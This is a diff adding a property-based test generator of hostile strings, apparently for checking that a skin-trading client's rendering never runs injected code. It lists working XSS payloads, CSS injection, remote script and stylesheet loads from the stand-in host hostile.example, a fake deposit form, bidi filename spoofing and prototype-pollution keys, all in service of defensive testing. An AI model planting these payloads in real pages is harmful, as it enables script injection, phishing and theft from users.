@@ -1,0 +1,101 @@
+import fc from 'fast-check';
+
+/** A global that every script among the texts sets, should one ever run. */
+export const CANARY = '__pwned';
+
+/** A host that nothing may ever ask for anything. */
+export const HOSTILE_HOST = 'hostile.example';
+
+export const RUN = `window.${CANARY}=1`;
+export const ELSEWHERE = `https://${HOSTILE_HOST}`;
+
+const MARKUP = [
+  `<script>${RUN}</script>`,
+  `<img src=x onerror="${RUN}">`,
+  `"><svg onload=${RUN}>`,
+  `' autofocus onfocus='${RUN}' x='`,
+  `</style></title></textarea><script src="${ELSEWHERE}/x.js"></script>`,
+  `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
+  `<a href="javascript:${RUN}">free skins</a>`,
+  `<base href="${ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
+  `<form action="${ELSEWHERE}"><button>Deposit`,
+  `&lt;b&gt; &#x202e; &amp;amp;`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}} $& $1 %s %c`,
+  `javascript:${RUN}`,
+];
+
+const STYLES = [
+  '<style>*{display:none!important}</style>',
+  `red;background:url(${ELSEWHERE}/c.png)`,
+  '} body { position: fixed; inset: 0 } .card {',
+  `@import "${ELSEWHERE}/x.css";`,
+];
+
+/** Direction: overrides without an end, ends without a beginning, and honest right-to-left names. */
+const DIRECTIONS = [
+  '\u202e$00.001$ gpj.exe',
+  '\u202d\u202e\u202b\u202a',
+  '\u2067\u2066\u2068 AWP | Asiimov',
+  '\u2069\u202c\u2069\u202c \u202eevil',
+  '\u200f\u200e\u061c',
+  '\u05de\u05d7\u05d5\u05dc\u05dc | \u05d4\u05e1\u05e2\u05e8\u05d4 123',
+  '\u062a\u0646\u064a\u0646 \u0627\u0644\u0646\u0627\u0631',
+];
+
+/** What shows nothing at all, or something only now and then. */
+const UNSEEN = [
+  '',
+  ' ',
+  '\t\r\n\u2028\u2029',
+  '\u200b\u200c\u200d\u2060\ufeff',
+  '\u00ad\u180e\u3164\uffa0',
+  'AK\u200b-\u200b47',
+  '\u0000\u0001\u001b[31m\u007f\u0085',
+];
+
+const BROKEN = ['\ud800', 'AWP \udc00', 'x\ud83d', '\uffff\ufffe', '\u{10ffff}\u{e0001}'];
+
+const EMOJI = [
+  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} \u{1f1e9}\u{1f1ea}',
+  '\u2764\ufe0f\u200d\u{1f525}\u{1f3fd}',
+  'Z\u0334\u0322\u0327a\u0335\u0328\u0321l\u0336\u0322g\u0337\u0322o\u0338\u0328',
+];
+
+const LONG = [
+  'x'.repeat(10_000),
+  'word '.repeat(2_000),
+  '\u9f8d'.repeat(10_000),
+  '\u200b'.repeat(10_000),
+  `a${'\u0301'.repeat(9_999)}`,
+  '\u{1f525}'.repeat(5_000),
+  '\n'.repeat(10_000),
+  `${'('.repeat(5_000)}${')'.repeat(5_000)}`,
+];
+
+/** Words that mean something to a careless reader of objects. */
+const WORDS = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'length'];
+
+const SHORT = [
+  ...MARKUP,
+  ...STYLES,
+  ...DIRECTIONS,
+  ...UNSEEN,
+  ...BROKEN,
+  ...EMOJI,
+  ...WORDS,
+  '../../client/trading/deposit',
+];
+
+const payload = fc.oneof(
+  { weight: 12, arbitrary: fc.constantFrom(...SHORT) },
+  { weight: 1, arbitrary: fc.constantFrom(...LONG) },
+);
+
+/** A text that a stranger wrote to do harm, alone or within something that looks like a name. */
+export const hostileText = fc.oneof(
+  { weight: 5, arbitrary: payload },
+  { weight: 2, arbitrary: payload.map((text) => `\u2605 Karambit | ${text} (Factory New)`) },
+  { weight: 1, arbitrary: fc.tuple(payload, payload).map((texts) => texts.join('')) },
+  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
+);
